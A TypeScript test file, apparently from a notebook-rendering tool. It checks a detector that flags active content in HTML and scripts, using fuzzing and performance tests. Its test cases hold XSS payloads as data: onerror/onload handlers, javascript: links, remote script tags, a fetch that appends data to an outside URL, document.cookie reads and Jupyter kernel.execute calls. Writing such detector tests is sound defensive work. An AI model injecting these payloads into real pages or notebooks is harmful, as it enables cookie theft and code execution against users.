import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { expectQuick, expectWithin, textOf } from "../testing/hostile.ts";
import { activeInMarkup, activeInScript, type ActiveKind } from "./active.ts";

const kinds = (text: string): ActiveKind[] => activeInMarkup(text).map(({ kind }) => kind);

test.each<readonly [text: string, kinds: readonly ActiveKind[]]>([
  ["<p onmouse='x'>plain</p> <b>script</b>", []],
  ["<script>f()</script>", ["script"]],
  ["<SCRIPT SRC=//a.io/x.js></SCRIPT>", ["remote-script"]],
  ["<script src='lib/x.js'></script>", ["script"]],
  ["<script>Jupyter.notebook.kernel.execute('import os')</script>", ["script", "kernel"]],
  ["<script>fetch('https://a.io/?' + x)</script>", ["script", "send"]],
  ["<script>x(document.cookie)</script>", ["script", "send"]],
  ["<script>var t = '<img onerror=f()>'</script>", ["script"]],
  ["<img src=x onerror=alert(1)>", ["handler"]],
  ["<svg/onload=alert(1)>", []],
  ["<svg onload=alert(1)>", ["handler"]],
  ["<img src='a.png' onerror=\"this.onerror=null;this.src='b.png'\">", ["benign-handler"]],
  ["<iframe onload=\"this.contentDocument.open()\" srcdoc='x'></iframe>", ["frame"]],
  ["<iframe src='https://a.io'></iframe>", ["frame"]],
  ["<button onclick='f()'>", ["benign-handler"]],
  ["<a href='javascript:f()'>", ["link"]],
  ["<a href='https://a.io?javascript:'>", []],
])("%j", (text, expected) => {
  expect(kinds(text)).toEqual(expected);
});

test("what Bokeh stores to end its server is a script like others", () => {
  const code = "var cmd = 'import bokeh.io.notebook as ion; ion.destroy()'; nb.kernel.execute(cmd)";
  expect(activeInScript(code).map(({ kind }) => kind)).toEqual(["script", "script"]);
});

test("a library that is stored whole can do everything, and is not asked", () => {
  expect(activeInScript(`${" ".repeat(30_000)}document.cookie`)).toHaveLength(1);
});

describe("hostile markup", () => {
  const pieces = [
    "<",
    "<script",
    ">",
    "</script",
    "<img",
    " onerror=",
    "'",
    '"',
    "fetch('https:",
    " src=",
    "javascript:",
  ];
  test("places lie in the text", () => {
    fc.assert(
      fc.property(textOf(pieces), (text) => {
        expectWithin(text, activeInMarkup(text));
        expectWithin(text, activeInScript(text));
      }),
    );
  });

  test.each([
    "<a ",
    '<a "',
    "<img onerror=",
    "<script>",
    "<script ",
    "<a href",
    " onload",
    "new Image",
    "<svg ' ",
  ])("%j by the hundred thousand", (piece) => {
    expectQuick(() => activeInMarkup(piece.repeat(300_000)), 3_000);
  });
});
